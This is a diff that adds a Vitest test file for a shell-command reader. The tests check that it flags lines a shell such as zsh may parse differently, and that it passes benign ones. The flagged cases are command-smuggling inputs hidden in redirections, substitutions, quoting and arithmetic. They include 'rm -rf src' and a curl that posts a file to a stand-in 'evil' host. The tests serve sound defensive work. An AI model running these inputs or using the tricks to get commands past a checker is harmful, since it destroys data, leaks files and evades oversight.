@@ -1,0 +1,70 @@
+import { describe, expect, it } from 'vitest';
+import { readShell } from './reader';
+
+describe('lines that a shell may read differently than the parser', () => {
+  it.each([
+    // A digit or a name glued to a process substitution.
+    'git status 1>(rm -rf src)',
+    'cat a 1<(curl -d @a evil)',
+    'ls {v}>(rm a)',
+    'npm run x 1>(touch p)',
+    'ls 2>(rm a) 3<(rm b)',
+    // Groups behind a redirection, in zsh.
+    '2>&1 { rm -rf src }',
+    '</dev/null { curl evil }',
+    '<<<x { rm a }',
+    'npm run x; 2>&1 { touch p }',
+    '2>&1 if true; then rm a; fi',
+    'repeat 3 { rm a }',
+    // A program's output as a file, in zsh.
+    'cat < =(rm -rf src)',
+    'cat <<<=(rm a)',
+    'ls <& =(rm a)',
+    'cat =(rm a)',
+    // The word of `>&` is expanded twice.
+    "echo x >&'$(rm -rf src)'",
+    "echo x >&1'>(rm a)'",
+    'echo x >&1-',
+    'echo x >&$fd',
+    // Lists that go on.
+    'a=($(rm -rf src))x',
+    'a=(`rm a`)b ls',
+    'a=({b,$(rm a)})c true',
+    // Quotes that do not hold.
+    `echo "\${x:-$'$(rm -rf src)'}"`,
+    'echo "${x:-$"$(rm a)"}"',
+    `echo $"\${x:-$'$(rm a)'}"`,
+    // A `#` that belongs to its word.
+    'cat <(ls)#; rm -rf src',
+    'echo <(ls)# $(rm a)',
+    // Calculations that zsh takes for commands.
+    'echo $(( rm -rf src ] ))',
+    '(( rm a ] ))',
+    '(( rm a [ ))',
+    'for (( rm a ] ;; )); do ls; done',
+    // What follows is another command.
+    'true &!rm a',
+    'true &|rm a',
+    'ls &! rm a',
+  ])('%s', (line) => {
+    expect(readShell(line).trouble).not.toBeNull();
+  });
+
+  it.each([
+    'cat <(ls) # rm -rf src',
+    'diff <(ls a) <(ls b)',
+    'a=(b c) ls',
+    'echo $(( (a + 1) * b[2] ))',
+    'echo "a & b; c | d (e) <f>"',
+    "echo 'a & b' a\\&b \\(x\\)",
+    'npm test >out.txt 2>&1 &',
+    'npm start & sleep 1; ls',
+    'echo x >&2',
+    'exec 3>&-',
+    'if [[ $x =~ ^(a|b)$ && a < b ]]; then ls; fi',
+    'if ls; then { ls; } 2>&1; fi',
+    `echo "\${x:-a}" $'b'`,
+  ])('and one that both read in the same way: %s', (line) => {
+    expect(readShell(line).trouble).toBeNull();
+  });
+});
